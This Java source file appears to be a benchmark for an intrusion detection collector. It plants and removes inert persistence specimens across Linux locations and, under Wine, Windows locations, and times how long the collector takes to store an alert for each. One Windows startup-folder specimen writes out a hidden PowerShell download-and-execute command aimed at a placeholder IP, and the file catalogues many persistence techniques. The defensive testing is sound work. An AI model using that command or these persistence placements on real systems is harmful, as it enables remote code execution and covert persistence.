import bzh.vigie.collector.store.Alerts;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.sqlite.SqliteStore;
import java.io.IOException;
import java.nio.file.FileAlreadyExistsException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.InstantSource;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Locale;

/**
 * Artefact on disk → alert stored. Plants harmless specimens, one at a time, in the places below, polls the collector's store
 * every 2 ms until the alert that names the file is in it, and removes the specimen. Arguments: folder of the store, specimens, and the
 * number of the first of them, which another series of the same store needs. Nothing that is planted can run: what it names does not exist, and no
 * scheduler is told. With the folder of a Wine prefix as fourth argument the places are those of that Windows.
 */
public final class Latency {
    record Place(String location, String path, String content) {}

    /** A value of a Windows' registry: set and removed by its own {@code reg}, whose end is when the time begins. */
    record Value(String key, String name, String data) {}

    private static final String NOTHING = "/dev/shm/.vigie-bench-nothing";

    private static final List<Place> PLACES = List.of(
            new Place("cron.d", "/etc/cron.d/vigie-bench-%d", "0 4 31 2 * root " + NOTHING + "\n"),
            new Place("cron.daily", "/etc/cron.daily/vigie-bench-%d", "#!/bin/sh\nexit 0 # " + NOTHING + "\n"),
            new Place("user crontab", "/var/spool/cron/crontabs/vigie-bench-%d", "0 4 31 2 * " + NOTHING + "\n"),
            new Place("systemd service", "/etc/systemd/system/vigie-bench-%d.service", "[Service]\nExecStart=" + NOTHING + "\n"),
            new Place("systemd timer", "/etc/systemd/system/vigie-bench-%d.timer", "[Timer]\nOnCalendar=2099-01-01\nUnit=vigie-bench-nothing.service\n"),
            new Place("systemd drop-in", "/etc/systemd/system/vigie-bench-nothing.service.d/vigie-bench-%d.conf", "[Service]\nExecStartPre=" + NOTHING + "\n"),
            new Place("systemd user unit", "/root/.config/systemd/user/vigie-bench-%d.service", "[Service]\nExecStart=" + NOTHING + "\n"),
            new Place("init.d", "/etc/init.d/vigie-bench-%d", "#!/bin/sh\n# " + NOTHING + "\n"),
            new Place("authorized_keys", "/root/.ssh/authorized_keys2", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE4bzhVigieBenchmarkKeyWithoutPrivatePartXXX vigie-bench\n"),
            new Place("sudoers.d", "/etc/sudoers.d/vigie-bench-%d", "vigie-bench-nobody ALL=(ALL) NOPASSWD: " + NOTHING + "\n"),
            new Place("profile.d", "/etc/profile.d/vigie-bench-%d.sh", ": " + NOTHING + "\n"),
            new Place("xdg autostart", "/etc/xdg/autostart/vigie-bench-%d.desktop", "[Desktop Entry]\nType=Application\nName=x\nExec=" + NOTHING + "\n"),
            new Place("udev", "/etc/udev/rules.d/99-vigie-bench-%d.rules", "ACTION==\"vigie-never\", RUN+=\"" + NOTHING + "\"\n"));

    private static final String STARTUP = "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/vigie-bench-%d";
    private static final String CURRENT = "Software\\Microsoft\\Windows\\CurrentVersion\\";
    private static final String GONE = "C:\\Users\\Public\\vigie-bench-%d.exe";

    private static final List<Place> WINDOWS_FILES = List.of(
            new Place("start folder", STARTUP + ".bat", "powershell -w hidden -c \"iex (iwr http://198.51.100.7/%d)\"\r\n"),
            new Place("start folder, script", STARTUP + ".vbs", "CreateObject(\"WScript.Shell\").Run \"%d\"\r\n"));

    private static final List<Value> WINDOWS_VALUES = List.of(
            new Value("HKLM\\" + CURRENT + "Run", "vigie-bench-%d", GONE),
            new Value("HKCU\\" + CURRENT + "Run", "vigie-bench-%d", GONE),
            new Value("HKLM\\" + CURRENT + "RunOnce", "vigie-bench-%d", GONE),
            new Value(
                    "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\vigie-bench-%d.exe",
                    "Debugger",
                    GONE),
            new Value("HKLM\\System\\CurrentControlSet\\Services\\vigie-bench-%d", "ImagePath", GONE));

    public static void main(String[] arguments) throws IOException, InterruptedException {
        int rounds = Integer.parseInt(arguments[1]);
        int first = Integer.parseInt(arguments[2]);
        List<Double> times = new ArrayList<>();
        int missed = 0;
        try (SqliteStore store = SqliteStore.open(Path.of(arguments[0]), InstantSource.system())) {
            for (int round = first; round < first + rounds; round++) {
                String where;
                double millis;
                if (arguments.length > 3 && round % 7 < WINDOWS_VALUES.size()) {
                    Value value = WINDOWS_VALUES.get(round % 7);
                    where = String.format(Locale.ROOT, value.key(), round);
                    millis = plant(store, value, round);
                } else {
                    Place place = arguments.length > 3
                            ? WINDOWS_FILES.get(round % 7 - WINDOWS_VALUES.size())
                            : PLACES.get(round % PLACES.size());
                    where = place.location();
                    String path = String.format(Locale.ROOT, place.path(), round);
                    Path file = arguments.length > 3 ? Path.of(arguments[3], "drive_c").resolve(path) : Path.of(path);
                    millis = plant(store, file, content(place, round));
                }
                String seen = millis < 0 ? "NOT SEEN in 10 s" : String.format(Locale.ROOT, "%7.0f ms", millis);
                System.out.printf(Locale.ROOT, "%-18s %s%n", where, seen);
                if (millis < 0) {
                    missed++;
                } else {
                    times.add(millis);
                }
                Thread.sleep(700);
            }
        }
        double[] sorted = times.stream().mapToDouble(Double::doubleValue).sorted().toArray();
        System.out.printf(
                Locale.ROOT,
                "specimens %d, alert stored %d, not seen %d; median %.0f ms, 95th %.0f ms, worst %.0f ms%n",
                rounds, sorted.length, missed, at(sorted, 0.5), at(sorted, 0.95), at(sorted, 1));
        System.exit(missed == 0 ? 0 : 1);
    }

    private static double plant(SqliteStore store, Path file, String content) throws IOException, InterruptedException {
        long last = lastSequence(store);
        Deque<Path> made = new ArrayDeque<>();
        for (Path folder = file.getParent(); !Files.isDirectory(folder); folder = folder.getParent()) {
            made.push(folder);
        }
        boolean mine = false;
        try {
            for (Path folder : made) {
                Files.createDirectory(folder);
            }
            if (!made.isEmpty()) {
                Thread.sleep(500);
            }
            long start = System.nanoTime();
            try {
                Files.createFile(file, PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rw-r--r--")));
                mine = true;
            } catch (FileAlreadyExistsException e) {
                throw new IOException(file + " is there already and is left alone", e);
            }
            Files.writeString(file, content);
            // On a Windows the file has another path, and the same name.
            return alerted(store, last, String.valueOf(file.getFileName()), start);
        } finally {
            if (mine) {
                Files.deleteIfExists(file);
            }
            while (!made.isEmpty()) {
                Files.deleteIfExists(made.pollLast());
            }
        }
    }

    private static double plant(SqliteStore store, Value value, int round) throws IOException, InterruptedException {
        long last = lastSequence(store);
        String key = String.format(Locale.ROOT, value.key(), round);
        String name = String.format(Locale.ROOT, value.name(), round);
        String data = String.format(Locale.ROOT, value.data(), round);
        try {
            wine("reg", "add", key, "/v", name, "/d", data, "/f");
            return alerted(store, last, "vigie-bench-" + round, System.nanoTime());
        } finally {
            if (key.contains("vigie-bench")) {
                wine("reg", "delete", key, "/f");
            } else {
                wine("reg", "delete", key, "/v", name, "/f");
            }
        }
    }

    private static void wine(String... words) throws IOException, InterruptedException {
        List<String> all = new ArrayList<>(List.of("wine"));
        all.addAll(List.of(words));
        new ProcessBuilder(all)
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start()
                .waitFor();
    }

    /** Milliseconds until an alert names it; negative where none does in ten seconds. */
    private static double alerted(SqliteStore store, long after, String named, long start) throws InterruptedException {
        long last = after;
        while (System.nanoTime() - start < 10_000_000_000L) {
            long from = last;
            for (Alerts.Numbered each : store.read(s -> s.alerts().after(new Scope.All(), from, 1_000))) {
                last = Math.max(last, each.sequence());
                if (each.alert().evidence().values().stream().anyMatch(v -> v.contains(named))) {
                    return (System.nanoTime() - start) / 1e6;
                }
            }
            Thread.sleep(2);
        }
        return -1;
    }

    private static long lastSequence(SqliteStore store) {
        long last = 0;
        while (true) {
            long from = last;
            List<Alerts.Numbered> page = store.read(s -> s.alerts().after(new Scope.All(), from, 1_000));
            if (page.isEmpty()) {
                return last;
            }
            last = page.getLast().sequence();
        }
    }

    /** Another specimen each round: the same one again would be counted under its open alert, not raised anew. */
    private static String content(Place place, int round) {
        return place.content()
                .replace("%d", String.valueOf(round))
                .replace(NOTHING, NOTHING + round)
                .replace("XXX", String.format(Locale.ROOT, "%03d", round));
    }

    private static double at(double[] sorted, double share) {
        int index = (int) Math.min(sorted.length - 1, Math.floor(share * sorted.length));
        return sorted.length == 0 ? Double.NaN : sorted[index];
    }
}
